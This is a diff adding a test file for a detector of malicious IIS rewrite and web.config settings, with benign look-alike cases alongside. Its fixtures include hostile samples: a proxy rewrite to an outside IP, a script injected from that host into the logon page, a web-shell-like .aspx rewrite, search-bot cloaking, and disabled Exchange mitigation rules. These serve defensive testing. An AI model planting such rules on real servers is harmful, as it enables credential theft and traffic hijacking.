@@ -1,0 +1,108 @@
+import detector from '../../../src/detectors/iis/rewrite-rule.js';
+import { testDetector } from '../../helpers/detector-tester.js';
+import { configuration } from '../configuration-samples.js';
+
+const rules = (...lines: string[]) =>
+  configuration('<system.webServer><rewrite><rules>', ...lines, '</rules></rewrite></system.webServer>');
+const outbound = (...lines: string[]) =>
+  configuration(
+    '<system.webServer><rewrite><outboundRules>',
+    ...lines,
+    '</outboundRules></rewrite></system.webServer>',
+  );
+const rule = (name: string, inner: string, more = '') =>
+  `<rule name="${name}" ${more}><match url=".*" />${inner}</rule>`;
+
+testDetector(detector, {
+  hits: [
+    {
+      name: 'rules that pass requests on, send visitors away, or lead to a page',
+      input: rules(
+        rule('a', '<action type="Rewrite" url="http://203.0.113.4/{R:0}" />'),
+        rule('b', '<action type="Redirect" url="https://shop.example/" />'),
+        rule('c', '<action type="Rewrite" url="/aspnet_client/zq81x.aspx" />'),
+        rule(
+          'd',
+          '<conditions><add input="{HTTP_USER_AGENT}" pattern="Googlebot|bingbot" /></conditions><action type="Redirect" url="/x" />',
+        ),
+      ),
+      detections: [
+        { message: 'proxy', at: { line: 3 }, severity: 'critical' },
+        { message: 'away', at: { line: 4 }, severity: 'medium' },
+        { message: 'page', at: { line: 5 }, severity: 'high' },
+        { message: 'cloaked', at: { line: 6 }, severity: 'high' },
+      ],
+    },
+    {
+      name: 'script put into the logon page',
+      input: outbound(
+        '<rule name="footer" preCondition="html"><match filterByTags="None" pattern="&lt;/body>" /><action type="Rewrite" value="&lt;script src=//203.0.113.4/x.js>&lt;/script>&lt;/body>" /></rule>',
+      ),
+      detections: [{ message: 'injected', at: { line: 3 }, severity: 'critical' }],
+    },
+    {
+      name: 'mitigations by name that no longer do their work',
+      input: rules(
+        rule('EEMS M1.1 PowerShell - inbound', '<action type="None" />'),
+        rule('EOMT example', '<action type="AbortRequest" />', 'enabled="false"'),
+      ),
+      detections: [
+        { message: 'weakened', at: { line: 3 }, severity: 'high' },
+        { message: 'disabled', at: { line: 4 }, severity: 'medium' },
+      ],
+    },
+    {
+      name: 'redirects, error pages, providers and proxying',
+      input: configuration(
+        '<system.webServer><proxy enabled="true" /><httpRedirect enabled="true" destination="https://mail.example/" />',
+        '<httpErrors><error statusCode="404" path="/aspnet_client/e.aspx" responseMode="ExecuteURL" /></httpErrors>',
+        '<rewrite><providers><provider name="P" type="Example.Provider, Example" /></providers></rewrite></system.webServer>',
+      ),
+      detections: [
+        { message: 'provider', at: { line: 4 }, severity: 'high' },
+        { message: 'proxy-on', at: { line: 2 }, severity: 'medium' },
+        { message: 'http-redirect', at: { line: 2 }, severity: 'low' },
+        { message: 'error-page', at: { line: 3 }, severity: 'high' },
+      ],
+    },
+  ],
+  misses: [
+    { name: 'no rules', input: rules() },
+    {
+      name: 'the mitigations of Microsoft, known by what they do',
+      looksAlike: true,
+      input: rules(
+        rule(
+          'EEMS M1.1 PowerShell - inbound',
+          '<conditions><add input="{UrlDecode:{REQUEST_URI}}" pattern="(?=.*autodiscover)(?=.*powershell)" /></conditions><action type="AbortRequest" />',
+          'stopProcessing="true"',
+        ),
+        rule(
+          'X-BEResource Abort - inbound',
+          '<conditions><add input="{HTTP_COOKIE}" pattern="(.*)X-BEResource=(.+)/(.+)~(.+)" /></conditions><action type="AbortRequest" />',
+        ),
+        rule(
+          'blocked by an administrator',
+          '<conditions><add input="{HTTP_USER_AGENT}" pattern="scanner" /></conditions><action type="CustomResponse" statusCode="403" />',
+        ),
+      ),
+    },
+    {
+      name: 'moves within the site and to its own name over https',
+      looksAlike: true,
+      input: configuration(
+        '<system.webServer><httpRedirect enabled="true" destination="/owa" /><rewrite><rules>',
+        rule('https', '<action type="Redirect" url="https://{HTTP_HOST}/{R:1}" />'),
+        rule('calendar', '<action type="Rewrite" url="{R:0}?layout=premium" />'),
+        '</rules></rewrite></system.webServer>',
+      ),
+    },
+    {
+      name: 'a header rule of a mitigation',
+      looksAlike: true,
+      input: outbound(
+        '<rule name="EOMT OWA CSP - outbound"><match serverVariable="RESPONSE_Content-Security-Policy" pattern=".*" /><action type="Rewrite" value="script-src \'self\'" /></rule>',
+      ),
+    },
+  ],
+});
